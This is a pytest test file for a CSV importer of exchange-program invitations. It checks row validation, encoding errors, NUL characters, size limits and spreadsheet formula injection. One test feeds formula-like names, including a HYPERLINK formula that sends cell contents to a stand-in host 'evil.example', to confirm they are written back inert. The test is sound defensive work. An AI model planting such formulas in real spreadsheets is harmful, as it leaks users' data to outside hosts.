from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from rich.console import Console

from exchange.invitations.csv_import import CsvImportError, import_csv
from exchange.models import ExchangeStatus, Invitation, MailKind, OutboxMail
from exchange.spreadsheets import csv_writer, inert, restored
from tests.invitations.conftest import World


def _write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


async def test_good_and_bad_rows(world: World, tmp_path: Path) -> None:
    source = _write(
        tmp_path / "invitees.csv",
        "\ufeffEmail,Full_Name,Country,Locale\n"
        "nurlan@example.org,Нұрлан Әбдіров,KZ,kk\n"
        "not-an-address,Ольга Ким,UZ,ru\n"
        "olga@example.org,Ольга Ким,uz,\n"
        "\n"
        "ana@example.org,,ES,en\n"
        "NURLAN@example.org,Nurlan again,KZ,kk\n"
        "pierre@example.org,Pierre Martin,FR,fr\n"
        "zz@example.org,Nobody,XX,en\n",
    )
    console_out = io.StringIO()
    summary = await import_csv(world.settings, "aral-week", source, console=Console(file=console_out))
    assert summary.rows == 7
    assert summary.invited == 2
    assert summary.already_invited == 0
    assert [row.line for row in summary.rejected] == [3, 6, 7, 8, 9]
    assert str(summary) == (
        f"7 rows: 2 invited, 0 already invited, 5 rejected (reasons in {tmp_path / 'invitees.rejected.csv'})"
    )
    stored = {i.email: i for i in await Invitation.all()}
    assert set(stored) == {"nurlan@example.org", "olga@example.org"}
    assert stored["nurlan@example.org"].locale == "kk"
    assert stored["olga@example.org"].locale == "ru"  # the exchange's first language
    assert stored["olga@example.org"].country == "UZ"
    assert await OutboxMail.filter(kind=MailKind.INVITATION).count() == 2

    # The input had a byte-order mark, so the rejected rows have one too (Excel reads Cyrillic then).
    with (tmp_path / "invitees.rejected.csv").open(encoding="utf-8-sig") as handle:
        rejected = list(csv.DictReader(handle))
    assert [r["line"] for r in rejected] == ["3", "6", "7", "8", "9"]
    reasons = {r["email"]: r["reasons"] for r in rejected}
    assert reasons["not-an-address"].startswith("email: Not a valid email address")
    assert reasons["ana@example.org"].startswith("fullName:")
    assert reasons["NURLAN@example.org"].startswith("email: This address already appears")
    assert reasons["pierre@example.org"].startswith("locale:")
    assert reasons["zz@example.org"].startswith("country:")

    # Importing the fixed list again invites nobody twice.
    again = await import_csv(
        world.settings,
        "aral-week",
        _write(tmp_path / "again.csv", "email,full_name,country\nnurlan@example.org,Нұрлан Әбдіров,KZ\n"),
        console=Console(file=io.StringIO()),
    )
    assert (again.invited, again.already_invited, again.rejected) == (0, 1, [])
    assert again.rejected_file is None


async def test_refused_call_rejects_every_row(world: World, tmp_path: Path) -> None:
    world.exchange.status = ExchangeStatus.DRAFT
    await world.exchange.save()
    source = _write(
        tmp_path / "list.csv", "email,full_name,country\na@example.org,A,KZ\nb@example.org,B,KZ\n"
    )
    summary = await import_csv(world.settings, "aral-week", source, console=Console(file=io.StringIO()))
    assert summary.invited == 0 and len(summary.rejected) == 2
    assert "open exchanges" in summary.rejected[0].reasons[0]


async def test_unusable_file_or_exchange(world: World, tmp_path: Path) -> None:
    with pytest.raises(CsvImportError, match="missing column"):
        await import_csv(world.settings, "aral-week", _write(tmp_path / "x.csv", "mail,name\na,b\n"))
    with pytest.raises(CsvImportError, match="No exchange"):
        await import_csv(world.settings, "nope", _write(tmp_path / "y.csv", "email,full_name,country\n"))


async def test_a_row_with_a_nul_is_rejected_and_the_others_are_invited(world: World, tmp_path: Path) -> None:
    # PostgreSQL cannot store U+0000 in text: the row used to fail the whole chunk with a
    # driver error, and no rejected-rows file was written.
    source = _write(
        tmp_path / "list.csv",
        "email,full_name,country,locale\n"
        "a@example.org,Aidana,KZ,kk\n"
        "b@example.org,Bo\0lat,KZ,kk\n"
        "c@example.org,Chingiz,KZ,\0\n"
        "d@example.org,Dana,KZ,ru\n",
    )
    summary = await import_csv(world.settings, "aral-week", source, console=Console(file=io.StringIO()))
    assert (summary.rows, summary.invited) == (4, 2)
    assert [(row.line, row.reasons) for row in summary.rejected] == [
        (3, ["fullName: contains a NUL character (U+0000)."]),
        (4, ["locale: contains a NUL character (U+0000)."]),
    ]
    assert sorted(i.email for i in await Invitation.all()) == ["a@example.org", "d@example.org"]
    with (tmp_path / "list.rejected.csv").open(encoding="utf-8") as handle:
        rejected = list(csv.DictReader(handle))
    assert [(r["email"], r["full_name"], r["locale"]) for r in rejected] == [
        ("b@example.org", "Bo\ufffdlat", "kk"),
        ("c@example.org", "Chingiz", "\ufffd"),
    ]


async def test_a_file_that_is_not_utf8_is_refused_naming_the_line(world: World, tmp_path: Path) -> None:
    source = tmp_path / "latin1.csv"
    source.write_bytes(
        "email,full_name,country\na@example.org,Ana,ES\nj@example.org,José Núñez,ES\n".encode("latin-1")
    )
    with pytest.raises(CsvImportError) as refused:
        await import_csv(world.settings, "aral-week", source, console=Console(file=io.StringIO()))
    assert str(refused.value) == (
        f'{source}: not UTF-8 text (line 3 has the byte 0xe9); save the list as "CSV UTF-8" and import '
        "it again. Nothing was imported."
    )
    assert await Invitation.all().count() == 0


async def test_a_cell_over_the_csv_size_limit_is_refused_not_a_traceback(
    world: World, tmp_path: Path
) -> None:
    source = _write(
        tmp_path / "big.csv", "email,full_name,country\n" + 'a@example.org,"' + "x" * 200_000 + '",KZ\n'
    )
    with pytest.raises(CsvImportError, match=r"line \d+: field larger than field limit"):
        await import_csv(world.settings, "aral-week", source, console=Console(file=io.StringIO()))


async def test_rejected_rows_cannot_run_as_spreadsheet_formulas(world: World, tmp_path: Path) -> None:
    # Each row is rejected (bad country), so its cells, formula-like ones included, are written back.
    names = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+7 701 000", "-2+3", "@SUM(A1)"]
    table = io.StringIO()
    csv.writer(table, lineterminator="\n").writerows(
        [
            ["email", "full_name", "country"],
            *([f"x{i}@example.org", name, "XX"] for i, name in enumerate(names)),
            ["=1+1@example.org", "Ok", "XX"],
        ]
    )
    source = _write(tmp_path / "list.csv", table.getvalue())
    summary = await import_csv(world.settings, "aral-week", source, console=Console(file=io.StringIO()))
    assert len(summary.rejected) == 5
    with (tmp_path / "list.rejected.csv").open(encoding="utf-8") as handle:
        rejected = list(csv.reader(handle))[1:]
    assert [row[2] for row in rejected] == [*(f"'{name}" for name in names), "Ok"]
    assert rejected[4][1] == "'=1+1@example.org"
    for row in rejected:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row

    # The rejected file, fixed and imported again, carries the names as they were typed.
    fixed = (tmp_path / "list.rejected.csv").read_text(encoding="utf-8").replace(",XX,", ",KZ,")
    again = await import_csv(
        world.settings,
        "aral-week",
        _write(tmp_path / "fixed.csv", fixed),
        console=Console(file=io.StringIO()),
    )
    assert again.invited == 5
    invited = {i.email: i.full_name for i in await Invitation.all()}
    assert invited == {
        **{f"x{i}@example.org": name for i, name in enumerate(names)},
        "=1+1@example.org": "Ok",
    }


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+7 701", "'+7 701"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Aidana", "Aidana"),
        ("a=b", "a=b"),
        ("'quoted", "'quoted"),
        ("", ""),
        (7, 7),
    ],
)
def test_every_csv_cell_is_written_inert_and_read_back_as_typed(cell: object, written: object) -> None:
    table = io.StringIO()
    csv_writer(table).writerow([cell])
    assert next(csv.reader(io.StringIO(table.getvalue()))) == [str(written)]
    if isinstance(cell, str):
        assert restored(inert(cell)) == cell
